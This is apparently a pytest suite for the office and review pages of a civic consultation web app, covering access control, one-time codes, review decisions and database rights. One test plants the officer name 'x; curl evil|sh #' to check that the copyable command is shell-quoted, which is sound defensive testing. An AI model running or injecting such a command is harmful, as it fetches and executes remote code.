"""The pages of administrators and reviewers, through the whole application with an engine inside."""

from __future__ import annotations

import re
from pathlib import Path
from uuid import uuid4

import pytest
from psycopg.errors import InsufficientPrivilege
from sqlalchemy import make_url

from jurat.database import open_engine, reader
from jurat.zones import Zone
from tests.rigs.logins import Logins, plain

pytest.importorskip("flask_wtf")
pytest.importorskip("babel")

from examples.platform import town
from examples.platform.web import office, store
from pages.maps import picture
from tests.examples.platform.drafting import publish, write
from tests.examples.platform.inside import AT_HOME, NEAR_BORDER, Town, opened
from tests.examples.stacks.runtimes import EXAMPLES

pytestmark = pytest.mark.stacks


def test_only_the_office_sees_its_pages(valmont: Town) -> None:
    for name, desk, reviews in (("ada", 403, 403), ("rhea", 403, 200), ("omar", 200, 200)):
        browser = valmont.browser(name)
        for path in ("", "codes/", "consultations/budget"):
            browser.get(f"/en/office/{path}", desk)
        browser.get("/en/reviews/", reviews)
    assert valmont.app.test_client().get("/en/office/").status_code == 302


def test_results_are_counts_in_words_and_name_nobody(valmont: Town) -> None:
    valmont.answer("residence", AT_HOME, "p-counted")
    valmont.answer("code", {"code": "0000-0000-0000"}, "p-counted")
    omar = valmont.browser("omar")
    dashboard = omar.get("/en/office/")
    assert "Participatory budget of the old town" in dashboard
    assert "letters" in dashboard
    assert re.search(r"Addresses of the town.*?working", dashboard, re.DOTALL)
    assert re.search(r"Register of professionals.*?not used yet", dashboard, re.DOTALL)
    assert re.search(r"The team.*?a person decides", dashboard, re.DOTALL)
    results = omar.get("/en/office/consultations/budget")
    assert "the address is in the area" in results
    assert "p-counted" not in dashboard + results


FAILED = "last_failure = 'source_unavailable', last_failure_at = '2026-01-02 03:04:05.000'"


@pytest.mark.parametrize(
    ("columns", "said"),
    [
        (f"opened_at = '2026-01-02 03:04:05.000', failures = 7, {FAILED}", "7 lookups failed in a row."),
        ("waiting = 3, oldest_due_at = '2026-01-02 03:04:05.000'", "3 answers are waiting for it."),
    ],
)
def test_how_a_source_stands_is_said_in_words(valmont: Town, columns: str, said: str) -> None:
    from sqlalchemy import text

    from examples.platform.web import figures

    with valmont.engine.connect() as connection, connection.begin() as stopped:
        connection.execute(text("INSERT INTO jurat_sources (name) VALUES ('lab') ON CONFLICT DO NOTHING"))
        connection.execute(text(f"UPDATE jurat_sources SET {columns} WHERE name = 'lab'"))
        lab = figures.Criterion("c", "registry", ("lab",), ())
        found = figures.sources(connection, [lab])
        stopped.rollback()
    with valmont.app.test_request_context("/en/office/"):
        template = "{% from 'office/_words.html' import source_words with context %}{{ source_words(each, {}, str) }}"
        from flask import render_template_string

        assert said in render_template_string(template, each=found[0], str=str)


def test_a_pause_is_reported_with_its_reason(valmont: Town) -> None:
    from sqlalchemy import text

    from examples.platform.web import figures

    with valmont.engine.connect() as connection, connection.begin() as stopped:
        connection.execute(text("INSERT INTO jurat_sources (name) VALUES ('lab') ON CONFLICT DO NOTHING"))
        connection.execute(
            text(
                "INSERT INTO jurat_pauses (source, began_at, until, reason, by_whom) "
                "VALUES ('lab', '2026-01-02 03:04:05.000', '2999-01-02 03:04:05.000', 'moving house', 'omar')"
            )
        )
        (lab,) = figures.sources(connection, [figures.Criterion("c", "registry", ("lab",), ())])
        stopped.rollback()
    assert (lab.state, lab.reason, lab.by_person) == ("paused", "moving house", True)


def test_codes_are_shown_once_and_open_the_door(valmont: Town) -> None:
    omar, path = valmont.browser("omar"), "/en/office/codes/"
    wrong = omar.post(path, {"count": "1001", "until": "1999-12-31"}, 422)
    for field in ("list", "count", "until"):
        assert f'<a href="#{field}">' in wrong
    form = {"id": str(uuid4()), "list": "letters", "count": "3", "until": "2998-12-31"}
    page = omar.post(path, form, 200)
    codes = re.findall(r'class="code">([^<]+)<', page)
    assert len(set(codes)) == 3
    assert "31 December 2998" in page
    with reader(valmont.engine).begin() as connection:
        request_id = connection.exec_driver_sql(
            "SELECT id FROM jurat_requests WHERE kind = 'codes' ORDER BY asked_at DESC LIMIT 1"
        ).scalar()
    omar.until(f"/en/office/codes/requests/{request_id}", "These codes are valid")
    check = valmont.answer("code", {"code": codes[1]}, "p-codes")
    assert valmont.client.result(check).reason == "code_valid"
    assert not any(code in omar.get(path) for code in codes)
    again = omar.get(omar.post(path, form))
    assert "These codes have already been created and cannot be shown again." in again
    assert not any(code in again for code in codes)
    with reader(valmont.engine).begin() as connection:
        assert connection.exec_driver_sql("SELECT count(*) FROM jurat_requests WHERE kind = 'codes'").scalar() == 1


@pytest.mark.parametrize("count", ["0", "1001", "000001200000", "9" * 5000, "3.0", "³", ""])
def test_how_many_codes_is_a_number_up_to_a_thousand(valmont: Town, count: str) -> None:
    form = {"id": str(uuid4()), "list": "letters", "count": count}
    assert '<a href="#count">' in valmont.browser("omar").post("/en/office/codes/", form, 422)


def test_a_list_is_chosen_or_new(valmont: Town) -> None:
    form = {"id": str(uuid4()), "list": "letters", "new": "others", "count": "3"}
    assert '<a href="#list">' in valmont.browser("omar").post("/en/office/codes/", form, 422)


def test_a_reviewer_decides_and_learns_what_came_of_it(valmont: Town) -> None:
    rhea, check = valmont.browser("rhea"), valmont.answer("residence", NEAR_BORDER, "p-near")
    queue = rhea.get("/en/reviews/")
    assert "the address is too close to the border" in queue
    page = rhea.get(f"/en/reviews/{check}")
    assert "Distance to the border" in page
    assert f"bin/jurat review show {check} --answer --as rhea" in page
    assert re.search(r'<path d="[^"]+" fill-rule="evenodd" class="marked"/>', page)
    assert "Vieille Ville" in page
    assert "p-near" not in queue + page
    assert '<a href="#reason">' in rhea.post(f"/en/reviews/{check}", {"reason": "too_young"}, 422)
    confirm = rhea.post(f"/en/reviews/{check}", {"reason": "outside_zone"}, 200)
    asked = re.search(r'name="id" value="([^"]+)"', confirm)
    assert asked is not None
    assert valmont.client.result(check).state == "review", "nothing is decided before it is confirmed"
    said = rhea.post(f"/en/reviews/{check}", {"reason": "outside_zone", "id": asked[1]})
    assert "it is outside the area" in rhea.until(said, "decided")
    assert valmont.client.result(check).reason == "outside_zone"

    gone = rhea.get(f"/en/reviews/{check}")
    assert "There is nothing left to decide" in gone
    said = rhea.post(f"/en/reviews/{check}/open", {"id": str(uuid4())})
    assert "The current decision applies until there is a new one." in rhea.until(said, "review reopened")


def test_under_four_eyes_a_second_person_sees_what_the_first_said(valmont: Town) -> None:
    home = {
        "criterion": "lives-in",
        "with": {"zone": "old-town"},
        "on_undetermined": "review",
        "title": {"en": "Home?"},
    }
    rhea, omar = valmont.browser("rhea"), valmont.browser("omar")
    with valmont.engine.begin() as connection:
        document = {"title": {"en": "Two persons"}, "four_eyes": True, "questions": {"home": home}}
        valmont.client.publish_consultation(connection, "two", document, by="omar")
    omar.until("/en/office/consultations/two", "can take part now")
    page = f"/en/reviews/{valmont.answer('home', NEAR_BORDER, consultation='two')}"
    said = rhea.post(page, {"reason": "outside_zone", "id": str(uuid4())})
    rhea.until(said, "Your decision is recorded.")
    assert "waiting for a second person" in rhea.get("/en/reviews/")
    assert "You have given your decision." in rhea.get(page)
    assert "rhea: the address is outside the area" in omar.get(page)
    said = omar.post(page, {"reason": "outside_zone", "id": str(uuid4())})
    omar.until(said, "decided")


def test_who_comes_second_is_reported_that_somebody_was_faster(valmont: Town) -> None:
    rhea, check = valmont.browser("rhea"), valmont.answer("residence", NEAR_BORDER, "p-fast")
    first, second = str(uuid4()), str(uuid4())
    said = rhea.post(f"/en/reviews/{check}", {"reason": "person_accepted", "id": first})
    rhea.until(said, "decided")
    with valmont.engine.begin() as connection:  # sent at the same moment, and applied after the other
        connection.exec_driver_sql(
            "INSERT INTO jurat_requests (id, kind, check_id, reason, by_whom, asked_at) VALUES "
            "(?, 'decide', ?, 'person_refused', 'omar', strftime('%Y-%m-%d %H:%M:%f', 'now'))",
            (second, str(check)),
        )
    valmont.wake()
    page = valmont.browser("omar").until(f"/en/reviews/{check}/said/{second}", "not carried out")
    assert "Someone else decided first" in page


@pytest.mark.slow
def test_a_command_to_copy_runs_nothing_that_stands_in_a_name(valmont: Town) -> None:
    name = "x; curl evil|sh #"
    with valmont.engine.begin() as connection:
        store.add_officer(connection, name, store.hashed(town.PASSWORD), store.REVIEWER)
    check = valmont.answer("residence", NEAR_BORDER, "p-quoted")
    assert f"review show {check} --answer --as '{name}'</code>" in valmont.browser(name).get(f"/en/reviews/{check}")


def test_on_postgresql_the_office_needs_the_rights_that_stand_in_its_page(postgresql_url: str, tmp_path: Path) -> None:
    with Logins(postgresql_url) as logins:
        visitors, desk = logins.url("jurat_platform"), logins.url()
        names = {url: make_url(url).username for url in (visitors, desk)}
        owner = open_engine(postgresql_url)
        store.make_tables(owner)
        with owner.begin() as connection:
            given = (EXAMPLES / "platform" / "rights.sql").read_text("utf-8")
            for granted in re.findall(r"^(GRANT .*) TO web;$", given, re.MULTILINE):
                connection.exec_driver_sql(f"{granted} TO {names[visitors]}")
            for granted in re.findall(r"^    (GRANT .*) TO office;$", office.__doc__ or "", re.MULTILINE):
                connection.exec_driver_sql(f"{granted} TO {names[desk]}")
        owner.dispose()
        with opened(postgresql_url, tmp_path, visitors, desk) as valmont:
            check = valmont.answer("residence", NEAR_BORDER)
            omar = valmont.browser("omar")
            for path in ("office/", "office/consultations/budget", "office/codes/", "reviews/", f"reviews/{check}"):
                omar.get(f"/en/{path}")
            there = publish(omar, write(omar))
            omar.until(there, "People who meet its criteria can take part now.")
            omar.post(f"{there}/withdraw", {})
            omar.until(there, "Nobody can take part any more.")
            omar.post(f"{there}/remove", {})
            made = omar.post(
                "/en/office/codes/", {"id": str(uuid4()), "new": "letters", "count": "2", "until": "2998-12-31"}, 200
            )
            request_id = re.search(r"codes/requests/([0-9a-f-]+)", made)
            if request_id:
                omar.until(f"/en/office/codes/requests/{request_id[1]}", "These codes are valid")
            else:
                assert "These codes are valid" in made
            said = omar.post(f"/en/reviews/{check}", {"reason": "person_accepted", "id": str(uuid4())})
            omar.until(said, "decided")
            late = omar.post(f"/en/reviews/{check}", {"reason": "person_accepted", "id": str(uuid4())}, 200)
            assert "There is nothing left to decide" in late
            omar.until(omar.post(f"/en/reviews/{check}/open", {"id": str(uuid4())}), "review reopened")
            assert omar.post(f"/en/reviews/{check}/open", {"id": str(uuid4())}) == "/en/reviews/"
            assert "Someone else has decided" in omar.get("/en/reviews/")
            with plain(desk) as connection, pytest.raises(InsufficientPrivilege):
                connection.execute("SELECT answer FROM jurat_checks")


def test_a_map_is_as_wide_as_it_is_on_the_ground() -> None:
    square = [[[[10.0, 60.0], [10.2, 60.0], [10.2, 60.1], [10.0, 60.1], [10.0, 60.0]]]]
    inner = [[[[10.09, 60.04], [10.11, 60.04], [10.11, 60.05], [10.09, 60.05], [10.09, 60.04]]]]
    drawn = picture([Zone("a", "Inside", inner), Zone("b", "All", square), Zone("c", "Nowhere", None)])
    assert [shape.name for shape in drawn.shapes] == ["b", "a", "c"], "the small one lies on top"
    assert 990 <= drawn.height <= 1010, "at 60 degrees two degrees of longitude are as long as one of latitude"
    assert [shape.name for shape in drawn.drawn] == ["b", "a"]
    whole = drawn.find("b")
    assert whole is not None
    assert abs(whole.x - 500) < 2
    assert picture([]).drawn == ()
